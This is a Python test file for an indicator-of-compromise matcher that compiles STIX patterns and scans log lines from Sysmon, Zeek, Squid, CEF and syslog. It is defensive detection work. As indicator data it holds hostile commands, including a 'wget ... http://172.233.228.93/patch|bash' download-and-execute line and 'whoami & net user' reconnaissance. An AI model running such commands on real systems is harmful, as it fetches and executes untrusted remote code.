"""Literal properties a log line shows (process, e-mail subject, account,
software, certificate, HTTP request, port): which paths compile to which kind,
what is refused and why, and the library against the naive oracle on random
and on real log lines."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import iocmatch
from iocmatch._common.errors import PatternError
from iocmatch._patterns.canonical import canonical_value
from iocmatch._patterns.clauses import compile_pattern
from tests.conftest import LOGHUB, bundle, indicator
from tests.oracle import Atom, oracle_hits, oracle_pattern_hits

HTTP = "network-traffic:extensions.'http-request-ext'"
SHA256 = "ab" * 32

# -- which path compiles to which kind ---------------------------------------------

PATHS = [
    ("[process:command_line = 'cmd.exe /c whoami']", "command-line", "cmd.exe /c whoami"),
    ("[process:name = 'evil.exe']", "process-name", "evil.exe"),
    ("[process:image_ref.name = 'evil.exe']", "process-name", "evil.exe"),
    ("[process:binary_ref.name = 'evil.exe']", "process-name", "evil.exe"),
    ("[email-message:subject = ' Invoice 4471 ']", "email-subject", "Invoice 4471"),
    ("[user-account:user_id = 'CORP\\\\jdoe']", "user-account", "CORP\\jdoe"),
    ("[user-account:account_login = 'jdoe']", "user-account", "jdoe"),
    ("[software:name = 'Mimikatz']", "software-name", "Mimikatz"),
    ("[x509-certificate:serial_number = '0a:1b:2c:3d:4e']", "x509-serial", "0A1B2C3D4E"),
    ("[x509-certificate:serial_number = '0x8bb00ee']", "x509-serial", "08BB00EE"),
    ("[x509-certificate:serial_number = '00:8b:b0:0e:e1']", "x509-serial", "8BB00EE1"),
    (
        "[x509-certificate:subject = 'C = US, O = Evil Org, CN = evil.example']",
        "x509-name",
        "C=US,O=Evil Org,CN=evil.example",
    ),
    ("[x509-certificate:issuer = '/C=US/O=Evil, Inc./CN=Evil CA']", "x509-name", "C=US,O=Evil\\, Inc.,CN=Evil CA"),
    (f"[x509-certificate:hashes.'SHA-256' = '{SHA256.upper()}']", "sha256", SHA256),
    (f"[artifact:hashes.'SHA-256' = '{SHA256}']", "sha256", SHA256),
    (f"[{HTTP}.request_header.'User-Agent' = 'Updater/1.0']", "user-agent", "Updater/1.0"),
    (f"[{HTTP}.request_header.'user-agent' = 'Updater/1.0']", "user-agent", "Updater/1.0"),
    (f"[{HTTP}.request_header.'X-Session' = 'k9x-7731']", "http-header", "k9x-7731"),
    (f"[{HTTP}.request_header.'Host' = 'Evil.Example']", "domain-name", "evil.example"),
    (f"[{HTTP}.request_header.'Host' = '203.0.113.9']", "ipv4-addr", "203.0.113.9"),
    (f"[{HTTP}.request_header.'Referer' = 'http://evil.example/a']", "url", "http://evil.example/a"),
    (f"[{HTTP}.request_value = '/gate.php?id=1']", "http-request", "/gate.php?id=1"),
    (f"[{HTTP}.request_value = 'http://evil.example/gate.php']", "url", "http://evil.example/gate.php"),
    ("[network-traffic:dst_ref.value = '203.0.113.9']", "ipv4-addr", "203.0.113.9"),
    ("[network-traffic:src_ref.value = '2001:db8::1']", "ipv6-addr", "2001:db8::1"),
    ("[network-traffic:dst_ref.value = 'evil[.]example']", "domain-name", "evil.example"),
]


@pytest.mark.parametrize(("pattern", "kind", "value"), PATHS)
@pytest.mark.parametrize("fast", [True, False])
def test_a_literal_path_compiles_to_its_kind(pattern: str, kind: str, value: str, fast: bool) -> None:
    compiled = compile_pattern(pattern, fast=fast)
    [clause] = compiled.clauses
    assert [(found.kind, found.value) for found in clause] == [(kind, value)]


def test_stix20_email_subject_is_read_with_a_warning() -> None:
    compiled = compile_pattern("[email:subject = 'Your parcel']", "2.0")
    assert [(a.kind, a.value) for c in compiled.clauses for a in c] == [("email-subject", "Your parcel")]
    assert compiled.warnings == ("non-standard object type 'email' read as 'email-message'",)


def test_a_host_header_port_is_left_out_with_a_warning() -> None:
    compiled = compile_pattern(f"[{HTTP}.request_header.'Host' = 'evil.example:8080']")
    assert [(a.kind, a.value) for c in compiled.clauses for a in c] == [("domain-name", "evil.example")]
    assert compiled.warnings == ("port 8080 of 'evil.example:8080' left out: the host is compared alone",)


def test_address_and_port_are_one_clause() -> None:
    pattern = "[network-traffic:dst_ref.value = '203.0.113.9' AND network-traffic:dst_port = '0443']"
    [clause] = compile_pattern(pattern).clauses
    assert {(a.kind, a.value) for a in clause} == {("ipv4-addr", "203.0.113.9"), ("port", "443")}


def test_ports_are_integers_in_stix_and_may_be_listed() -> None:
    pattern = "[network-traffic:dst_ref.value = '203.0.113.9' AND network-traffic:dst_port IN (443, 8443)]"
    clauses = compile_pattern(pattern).clauses
    assert {frozenset((a.kind, a.value) for a in clause) for clause in clauses} == {
        frozenset({("ipv4-addr", "203.0.113.9"), ("port", "443")}),
        frozenset({("ipv4-addr", "203.0.113.9"), ("port", "8443")}),
    }


def test_an_endpoint_range_and_a_port_are_one_clause() -> None:
    pattern = "[network-traffic:dst_ref.value ISSUBSET '10.0.0.0/8' AND network-traffic:dst_port = 3389]"
    [clause] = compile_pattern(pattern).clauses
    assert {(a.kind, a.value) for a in clause} == {("ipv4-addr", "10.0.0.0/8"), ("port", "3389")}
    matcher = iocmatch.compile(iocmatch.load(bundle(indicator(pattern))))
    assert {m.text for m in matcher.scan_line("SRC=192.0.2.7 DST=10.1.2.3 PROTO=TCP SPT=50123 DPT=3389")} == {
        "10.1.2.3",
        "3389",
    }
    # Which side a number is on is the log's own convention: a port counts wherever it stands alone.
    assert len(matcher.scan_line("SRC=192.0.2.7 DST=10.1.2.3 PROTO=TCP SPT=3389 DPT=443")) == 2
    assert not matcher.scan_line("SRC=192.0.2.7 DST=10.1.2.3 PROTO=TCP SPT=50123 DPT=33890")


def test_only_a_port_may_be_an_integer() -> None:
    with pytest.raises(PatternError, match="int values are not supported on file-name"):
        compile_pattern("[file:name = 5]")


def test_a_port_beside_an_address_drops_only_the_lone_port_branch() -> None:
    pattern = (
        "[network-traffic:dst_ref.value = '203.0.113.9' AND network-traffic:dst_port = '443']"
        " OR [network-traffic:dst_port = '8443']"
    )
    compiled = compile_pattern(pattern)
    assert [{a.kind for a in clause} for clause in compiled.clauses] == [{"ipv4-addr", "port"}]
    assert len(compiled.warnings) == 1
    assert "a port alone is no indicator" in compiled.warnings[0]


def test_a_method_counts_beside_a_path_in_one_clause() -> None:
    [clause] = compile_pattern(f"[{HTTP}.request_method = 'post' AND {HTTP}.request_value = '/gate.php']").clauses
    assert {(a.kind, a.value) for a in clause} == {("http-method", "POST"), ("http-request", "/gate.php")}


def test_a_process_named_as_every_windows_host_runs_is_too_broad() -> None:
    objects = [indicator("[process:name = 'svchost.exe']", 1), indicator("[process:name LIKE 'svch%']", 2)]
    report = iocmatch.load(bundle(*objects)).report
    assert (report.compiled, report.excluded) == (0, 2)
    assert all("every Windows host" in problem.reason for problem in report.problems)
    assert iocmatch.load(bundle(*objects), allow_broad=True).report.compiled == 2


REFUSED = [
    ("[network-traffic:dst_port = '443']", "a port alone is no indicator"),
    ("[network-traffic:src_port = '1' OR network-traffic:dst_port = '2']", "a port alone is no indicator"),
    (f"[{HTTP}.request_method = 'POST']", "a request method alone is no indicator"),
    (f"[{HTTP}.request_value = '/']", "no indicator"),
    (f"[{HTTP}.request_value = 'gate.php']", "neither a path"),
    ("[x509-certificate:serial_number = '0102']", "shorter than 4 bytes"),
    ("[x509-certificate:serial_number = 'not hex']", "not a certificate serial"),
    ("[x509-certificate:subject = 'Evil Org']", "not a distinguished name"),
    ("[x509-certificate:validity_not_before = t'2026-01-01T00:00:00Z']", "cannot be seen in a log line"),
    ("[x509-certificate:version = '3']", "cannot be seen in a log line"),
    ("[process:pid = 4242]", "cannot be seen in a log line"),
    ("[user-account:is_privileged = true]", "cannot be seen in a log line"),
    ("[network-traffic:protocols[*] = 'tcp']", "cannot be seen in a log line"),
    ("[email-message:subject = '  ']", "empty"),
    ("[process:command_line = 'a\nb']", "line break"),
    ("[x-acme-beacon:name = 'evil']", "is not supported"),
]


@pytest.mark.parametrize(("pattern", "reason"), REFUSED)
@pytest.mark.parametrize("fast", [True, False])
def test_what_no_log_line_can_show_is_refused_with_why(pattern: str, reason: str, fast: bool) -> None:
    with pytest.raises(PatternError, match=reason):
        compile_pattern(pattern, fast=fast)


def test_a_port_is_canonical_without_leading_zeros() -> None:
    assert canonical_value("port", "0443") == "443"
    for bad in ("0", "65536", "44x", "", "-1", "\u0664\u0664\u0663"):
        with pytest.raises(PatternError, match="is not a port"):
            canonical_value("port", bad)


# -- the library against the oracle, on random lines ---------------------------------

_TEXT = st.text(alphabet='abcXYZ019 _-./\\:"=', min_size=3, max_size=14).filter(lambda v: v.strip() == v and v.strip())
_WORDS = st.text(alphabet="abcXYZ019 _-./é\u0130\u212a", min_size=3, max_size=12).filter(
    lambda v: v.strip() == v and v.strip()
)
_NAME = st.text(alphabet="abcxyz019_", min_size=2, max_size=8)
_SERIAL = st.text(alphabet="0123456789abcdefABCDEF", min_size=8, max_size=14).filter(lambda v: int(v, 16) >= 2**32)
_DN = st.builds(
    lambda cn, org: f"CN={cn},O={org}",
    _NAME,
    st.text(alphabet="abcXYZ 01", min_size=1, max_size=6).map(str.strip).filter(bool),
)
_PATH = st.text(alphabet="abcXYZ019_-./?=&", min_size=1, max_size=10).map(lambda p: "/" + p)

LITERAL_ATOMS = st.one_of(
    _TEXT.map(lambda v: Atom("command-line", v)),
    _WORDS.map(lambda v: Atom("email-subject", v)),
    _WORDS.map(lambda v: Atom("software-name", v)),
    _NAME.map(lambda v: Atom("process-name", v + ".exe")),
    _NAME.map(lambda v: Atom("user-account", v)),
    _SERIAL.map(lambda v: Atom("x509-serial", v)),
    _DN.map(lambda v: Atom("x509-name", v)),
    _WORDS.map(lambda v: Atom("user-agent", v)),
    _NAME.map(lambda v: Atom("http-header", v)),
    _PATH.filter(lambda v: v != "/").map(lambda v: Atom("http-request", v)),
    # LIKE 'prefix%' keeps the kind's rule where the value starts, and none where it stops.
    _WORDS.filter(lambda v: "%" not in v and "_" not in v).map(lambda v: Atom("command-line", v + "%", "LIKE")),
    _WORDS.filter(lambda v: "_" not in v).map(lambda v: Atom("user-agent", v + "%", "LIKE")),
)
PATHS_BY_KIND = {
    "command-line": "process:command_line",
    "email-subject": "email-message:subject",
    "software-name": "software:name",
    "process-name": "process:name",
    "user-account": "user-account:user_id",
    "x509-serial": "x509-certificate:serial_number",
    "x509-name": "x509-certificate:issuer",
    "user-agent": f"{HTTP}.request_header.'User-Agent'",
    "http-header": f"{HTTP}.request_header.'Cookie'",
    "http-request": f"{HTTP}.request_value",
}
# Neighbours on the boundary rules: word characters, hex digits, separators,
# quotes, escapes, '$', '@', '+', and a key= after a space.
NEIGHBOURS = st.sampled_from(
    [
        "",
        " ",
        "\t",
        '"',
        "'",
        "a",
        "F",
        "0",
        "_",
        ".",
        ":",
        "/",
        "\\",
        "$",
        "@",
        "+",
        "=",
        ",",
        ", ",
        " k=",
        "|",
        "]",
        "-",
        "http://h.example",
        '\\"',
    ]
)


def stix_string(value: str) -> str:
    return "'" + value.replace("\\", "\\\\").replace("'", "\\'") + "'"


def _serial_forms(serial: str) -> list[str]:
    digits = serial.upper() if len(serial) % 2 == 0 else "0" + serial.upper()
    pairs = [digits[i : i + 2] for i in range(0, len(digits), 2)]
    return [digits, ":".join(pairs).lower(), str(int(digits, 16))]


def _spellings(atom: Atom) -> list[str]:
    """Ways a log may write the atom's value, right and nearly right."""
    value = atom.value.removesuffix("%") if atom.op == "LIKE" else atom.value
    forms = [value, value.upper(), value[:-1], value + "x", value + " more"]
    if atom.kind == "x509-serial":
        forms += _serial_forms(value)
    if atom.kind == "x509-name":
        cn, org = value.split(",O=")
        forms += [f"{cn}, O={org}", f"O = {org}, {cn.replace('=', ' = ')}", f"/O={org}/{cn}"]
    forms += [value.replace("\\", "\\\\").replace('"', '\\"'), value.replace(" ", "+")]
    return forms


@st.composite
def literal_lines(draw: st.DrawFn) -> tuple[list[Atom], str]:
    atoms = draw(st.lists(LITERAL_ATOMS, min_size=1, max_size=3, unique=True))
    pieces = [draw(NEIGHBOURS)]
    for _ in range(draw(st.integers(1, 4))):
        pieces += [draw(st.sampled_from(_spellings(draw(st.sampled_from(atoms))))), draw(NEIGHBOURS)]
    return atoms, "".join(pieces)


def _loaded(atoms: list[Atom]) -> iocmatch.IndicatorSet:
    objects = [indicator(f"[{PATHS_BY_KIND[a.kind]} {a.op} {stix_string(a.value)}]", n) for n, a in enumerate(atoms, 1)]
    loaded = iocmatch.load(bundle(*objects), allow_broad=True)
    assert loaded.report.compiled == len(atoms), loaded.report.problems
    return loaded


@pytest.mark.slow
@settings(max_examples=500, deadline=None)
@given(literal_lines(), st.sampled_from(["aho-corasick", "tokens"]))
def test_literal_hits_equal_the_oracle(planted: tuple[list[Atom], str], engine: str) -> None:
    atoms, line = planted
    matcher = iocmatch.compile(_loaded(atoms), engine=engine)
    want = set(oracle_hits(atoms, line))
    assert {(m.start, m.end, m.kind, m.value) for m in matcher.scan_line(line)} == want
    block = matcher.scan_stream(io.BytesIO(line.encode("utf-8", "surrogateescape")))
    assert {(m.start, m.end, m.kind, m.value) for m in block} == want


PORT_NEIGHBOURS = st.sampled_from(
    [
        "",
        " ",
        "\t",
        ":",
        "=",
        "/",
        "-",
        ".",
        "0",
        "a",
        "12:",
        "10:44:",
        "06/",
        "2026-",
        ":1",
        ".5",
        "-3",
        "/7",
        "ms",
        ",",
        '"',
    ]
)


@pytest.mark.slow
@settings(max_examples=300, deadline=None)
@given(st.integers(1, 65535), st.lists(st.tuples(PORT_NEIGHBOURS, PORT_NEIGHBOURS), min_size=1, max_size=3))
def test_port_hits_equal_the_oracle(port: int, plants: list[tuple[str, str]]) -> None:
    line = "DST=203.0.113.9 " + " ".join(f"{before}{port}{after}" for before, after in plants)
    pattern = f"[network-traffic:dst_ref.value = '203.0.113.9' AND network-traffic:dst_port = '{port}']"
    matcher = iocmatch.compile(iocmatch.load(bundle(indicator(pattern))))
    want = oracle_pattern_hits([[Atom("ipv4-addr", "203.0.113.9"), Atom("port", str(port))]], line)
    assert {(m.start, m.end, m.kind, m.value) for m in matcher.scan_line(line)} == want


# -- real logs: planted and near-miss values, and the oracle on every line -----------------


@pytest.fixture
def loghub() -> Path:
    if not LOGHUB.is_dir():
        pytest.skip(f"the LogHub samples are not beside the project ({LOGHUB} is missing)")
    return LOGHUB


REAL = [
    (
        "OpenSSH_2k.log",
        "[network-traffic:src_ref.value = '173.234.31.186' AND network-traffic:src_port = '38926']",
        [[Atom("ipv4-addr", "173.234.31.186"), Atom("port", "38926")]],
    ),
    ("OpenSSH_2k.log", "[user-account:account_login = 'webmaster']", [[Atom("user-account", "webmaster")]]),
    (
        "Zookeeper_2k.log",
        "[network-traffic:dst_ref.value = '10.10.34.11' AND network-traffic:dst_port = '3888']",
        [[Atom("ipv4-addr", "10.10.34.11"), Atom("port", "3888")]],
    ),
    (
        "OpenStack_2k.log",
        f"[{HTTP}.request_value = '/v2/54fadb412c4e40cdbaed9335e4c35a9e/servers/detail']",
        [[Atom("http-request", "/v2/54fadb412c4e40cdbaed9335e4c35a9e/servers/detail")]],
    ),
    ("Proxifier_2k.log", "[process:name = 'chrome.exe']", [[Atom("process-name", "chrome.exe")]]),
]


@pytest.mark.slow
@pytest.mark.parametrize(("log", "pattern", "dnf"), REAL)
def test_real_logs_hit_as_the_oracle_says(loghub: Path, log: str, pattern: str, dnf: list[list[Atom]]) -> None:
    lines = (loghub / log).read_text(encoding="utf-8", errors="surrogateescape").splitlines()
    matcher = iocmatch.compile(iocmatch.load(bundle(indicator(pattern))))
    hit_lines = 0
    for line in lines:
        got = {(m.start, m.end, m.kind, m.value) for m in matcher.scan_line(line)}
        assert got == oracle_pattern_hits(dnf, line), line
        hit_lines += bool(got)
    assert hit_lines > 0  # each value is in the sample


def test_a_near_miss_port_on_real_ssh_lines_never_hits(loghub: Path) -> None:
    # 173.234.31.186 connects from port 38926, never from 3892 or 389.
    lines = (loghub / "OpenSSH_2k.log").read_text(encoding="utf-8").splitlines()
    near = [
        "[network-traffic:src_ref.value = '173.234.31.186' AND network-traffic:src_port = '3892']",
        "[network-traffic:src_ref.value = '173.234.31.186' AND network-traffic:src_port = '389']",
    ]
    matcher = iocmatch.compile(iocmatch.load(bundle(*(indicator(p, n) for n, p in enumerate(near, 1)))))
    assert [line for line in lines if matcher.scan_line(line)] == []
    planted = "Dec 10 06:55:48 LabSZ sshd[24200]: Failed password for root from 173.234.31.186 port 3892 ssh2"
    assert {m.text for m in matcher.scan_line(planted)} == {"173.234.31.186", "3892"}


# -- planted on realistic lines of each format ----------------------------------------------

SYSMON_JSON = (
    '{"EventID":1,"Image":"C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Temp\\\\upd.exe",'
    '"CommandLine":"\\"C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Temp\\\\upd.exe\\" -k net","User":"CORP\\\\bob"}'
)
SYSMON_XML = (
    "<EventData><Data Name='Image'>C:\\Users\\bob\\AppData\\Local\\Temp\\upd.exe</Data>"
    "<Data Name='CommandLine'>\"C:\\Users\\bob\\AppData\\Local\\Temp\\upd.exe\" -k net</Data>"
    "<Data Name='User'>CORP\\bob</Data></EventData>"
)
ZEEK_X509_TSV = "1765000000.1\tFn3\t3\t0A1B2C3D4E\tCN=evil.example,O=Evil Org\tCN=Evil CA\t1765000000.0"
ZEEK_X509_JSON = (
    '{"ts":1765000000.1,"id":"Fn3","certificate.serial":"0A1B2C3D4E",'
    '"certificate.subject":"CN=evil.example,O=Evil Org","certificate.issuer":"CN=Evil CA"}'
)
ZEEK_HTTP_TSV = (
    "1765000000.1\tC1\t10.0.0.5\t51234\t203.0.113.9\t80\t1\tPOST\tevil.example\t/gate.php\t-\t1.1\tUpdater/1.0"
)
SQUID = (
    "1765000000.123 57 10.0.0.5 TCP_MISS/200 512 POST http://evil.example/gate.php - HIER_DIRECT/203.0.113.9 text/html"
)
CEF = (
    "CEF:0|Vendor|Proxy|1.0|100|web|3|request=http://evil.example/gate.php"
    " requestClientApplication=Updater/1.0 src=10.0.0.5"
)
SYSLOG_4624 = (
    "Dec  6 10:00:00 dc1 MSWinEventLog 1 Security 4624 An account was successfully logged on."
    " Account Name: bob Account Domain: CORP"
)

PLANTED = [
    ("process:command_line = '\"C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Temp\\\\upd.exe\" -k net'", SYSMON_JSON, 1),
    ("process:command_line = '\"C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Temp\\\\upd.exe\" -k net'", SYSMON_XML, 1),
    (
        "process:command_line = '\"C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Temp\\\\upd.exe\" -k netsvcs'",
        SYSMON_XML,
        0,
    ),
    ("process:name = 'upd.exe'", SYSMON_JSON, 2),
    ("process:name = 'upd.exe'", SYSMON_XML, 2),
    ("process:name = 'pd.exe'", SYSMON_XML, 0),
    # The profile folder C:\Users\bob\ is the account's too: it counts, as CORP\bob does.
    ("user-account:user_id = 'bob'", SYSMON_XML, 3),
    ("user-account:user_id = 'CORP\\\\bob'", SYSMON_JSON, 1),
    ("user-account:user_id = 'bob'", SYSLOG_4624, 1),
    ("user-account:user_id = 'bo'", SYSLOG_4624, 0),
    ("x509-certificate:serial_number = '0a:1b:2c:3d:4e'", ZEEK_X509_TSV, 1),
    ("x509-certificate:serial_number = '0a:1b:2c:3d:4e'", ZEEK_X509_JSON, 1),
    ("x509-certificate:serial_number = '1b:2c:3d:4e'", ZEEK_X509_JSON, 0),
    ("x509-certificate:subject = 'O=Evil Org, CN=evil.example'", ZEEK_X509_TSV, 1),
    ("x509-certificate:subject = 'CN=evil.example'", ZEEK_X509_JSON, 0),
    ("x509-certificate:issuer = 'CN=Evil CA'", ZEEK_X509_JSON, 1),
    (f"{HTTP}.request_value = '/gate.php'", ZEEK_HTTP_TSV, 1),
    (f"{HTTP}.request_value = '/gate.php'", SQUID, 1),
    (f"{HTTP}.request_value = '/gate.php'", CEF, 1),
    (f"{HTTP}.request_value = '/gate'", SQUID, 0),
    (f"{HTTP}.request_header.'User-Agent' = 'Updater/1.0'", ZEEK_HTTP_TSV, 1),
    (f"{HTTP}.request_header.'User-Agent' = 'Updater/1.0'", CEF, 1),
    (f"{HTTP}.request_header.'User-Agent' = 'Updater/1'", CEF, 0),
]


@pytest.mark.parametrize(("comparison", "line", "hits"), PLANTED)
def test_planted_values_on_realistic_lines(comparison: str, line: str, hits: int) -> None:
    matcher = iocmatch.compile(iocmatch.load(bundle(indicator(f"[{comparison}]"))))
    found = matcher.scan_line(line)
    assert len(found) == hits, [(m.kind, m.text) for m in found]
    assert all(line[m.start : m.end] == m.text for m in found)


REFERENCE_TYPES = [
    # MISP's STIX 2 export and Talos write the referenced object's type beside its value.
    (
        "[network-traffic:dst_ref.type = 'ipv4-addr' AND network-traffic:dst_ref.value = '192.36.57.181']",
        {("ipv4-addr", "192.36.57.181")},
    ),
    (
        "[network-traffic:src_ref.type = 'ipv6-addr' AND network-traffic:src_ref.value = '2001:db8::7']",
        {("ipv6-addr", "2001:db8::7")},
    ),
    (
        (
            "[network-traffic:dst_ref.type IN ('ipv4-addr', 'domain-name')"
            " AND network-traffic:dst_ref.value = 'c2.example']"
        ),
        {("domain-name", "c2.example")},
    ),
    (
        (
            "[network-traffic:dst_ref.type = 'ipv4-addr' AND network-traffic:dst_ref.value = '192.36.57.181'"
            " AND network-traffic:dst_port = 443]"
        ),
        {("ipv4-addr", "192.36.57.181"), ("port", "443")},
    ),
    (
        "[domain-name:value = 'c2.example' AND domain-name:resolves_to_refs[*].value = '203.0.113.7']",
        {("domain-name", "c2.example"), ("ipv4-addr", "203.0.113.7")},
    ),
]


@pytest.mark.parametrize(("pattern", "atoms"), REFERENCE_TYPES)
def test_a_reference_type_beside_its_value_is_that_value(pattern: str, atoms: set[tuple[str, str]]) -> None:
    [clause] = compile_pattern(pattern, fast=False).clauses
    assert {(a.kind, a.value) for a in clause} == atoms


@pytest.mark.parametrize(
    ("pattern", "reason"),
    [
        ("[network-traffic:dst_ref.type = 'ipv4-addr']", "a reference's type alone is no indicator"),
        (
            "[network-traffic:dst_ref.type = 'domain-name' AND network-traffic:dst_ref.value = '192.36.57.181']",
            "the reference's type (domain-name) does not fit its value",
        ),
        (
            "[network-traffic:dst_ref.type = 'mac-addr' AND network-traffic:dst_ref.value = '192.36.57.181']",
            "a reference to a 'mac-addr' object names nothing a log line shows",
        ),
    ],
)
def test_a_reference_type_that_names_nothing_is_refused(pattern: str, reason: str) -> None:
    with pytest.raises(PatternError) as refused:
        compile_pattern(pattern)
    assert str(refused.value) == reason


def test_a_typed_reference_hits_a_firewall_line() -> None:
    pattern = (
        "[network-traffic:dst_ref.type = 'ipv4-addr' AND network-traffic:dst_ref.value = '192.36.57.181'"
        " AND network-traffic:dst_port = 443]"
    )
    matcher = iocmatch.compile(iocmatch.load(bundle(indicator(pattern))))
    hit = "Dec  6 09:14:02 fw kernel: OUT=eth0 SRC=10.0.0.5 DST=192.36.57.181 PROTO=TCP SPT=51234 DPT=443"
    assert {m.kind for m in matcher.scan_line(hit)} == {"ipv4-addr", "port"}
    assert not matcher.scan_line(hit.replace("DPT=443", "DPT=80"))


def test_a_non_standard_file_path_is_read_as_a_path_with_a_warning() -> None:
    """Amnesty's and MVT's STIX 2.1 write ``file:path``, which STIX has not."""
    path = "/private/var/db/com.apple.xpc.roleaccountd.staging/PlugIns/fud.appex/"
    compiled = compile_pattern(f"[file:path = '{path}']")
    assert [(a.kind, a.value) for clause in compiled.clauses for a in clause] == [("directory", path)]
    assert compiled.warnings == ("non-standard property file:path read as a path",)
    matcher = iocmatch.compile(iocmatch.load(bundle(indicator(f"[file:path = '{path}']"))))
    assert [m.text for m in matcher.scan_line(f'{{"event":"exec","path":"{path}fud"}}')] == [path]


def test_a_syslog_process_id_is_no_port() -> None:
    pattern = "[network-traffic:dst_ref.value = '203.0.113.9' AND network-traffic:dst_port = 53]"
    matcher = iocmatch.compile(iocmatch.load(bundle(indicator(pattern))))
    assert not matcher.scan_line("Dec  6 10:00:00 mx postfix/smtp[53]: to=<a@b.c>, relay=x[203.0.113.9]:25")
    bind = "Dec  6 10:00:00 named[812]: client 10.0.0.1#53211: forwarding to [203.0.113.9]:53"
    assert [m.text for m in matcher.scan_line(bind)] == ["203.0.113.9", "53"]


def test_a_command_line_in_rendered_event_xml_is_found() -> None:
    """Rendered Windows event XML (XmlWinEventLog) escapes quotes too."""
    matcher = iocmatch.compile(
        iocmatch.load(bundle(indicator("[process:command_line = 'cmd.exe /c \"whoami & net user\"']")))
    )
    line = '<Data Name="CommandLine">cmd.exe /c &quot;whoami &amp; net user&quot;</Data>'
    assert [m.text for m in matcher.scan_line(line)] == ["cmd.exe /c &quot;whoami &amp; net user&quot;"]


def test_a_defanged_command_line_is_refanged_with_a_warning() -> None:
    """Feeds defang the URLs inside a command line; the log holds the command as it ran."""
    pattern = "[process:command_line = 'wget -qO- hxxp://172.233.228[.]93/patch|bash']"
    compiled = compile_pattern(pattern)
    assert [a.value for clause in compiled.clauses for a in clause] == ["wget -qO- http://172.233.228.93/patch|bash"]
    assert compiled.warnings == (
        (
            "defanged value 'wget -qO- hxxp://172.233.228[.]93/patch|bash' refanged to "
            "'wget -qO- http://172.233.228.93/patch|bash'"
        ),
    )
    matcher = iocmatch.compile(iocmatch.load(bundle(indicator(pattern))))
    auditd = 'type=EXECVE msg=audit(1733476442.1:7): proctitle="wget -qO- http://172.233.228.93/patch|bash"'
    assert [m.kind for m in matcher.scan_line(auditd)] == ["command-line"]
    # Brackets of the command's own stay as written.
    [own] = compile_pattern("[process:command_line = 'cmd /c echo [x] > y[1].txt']").clauses
    assert [a.value for a in own] == ["cmd /c echo [x] > y[1].txt"]
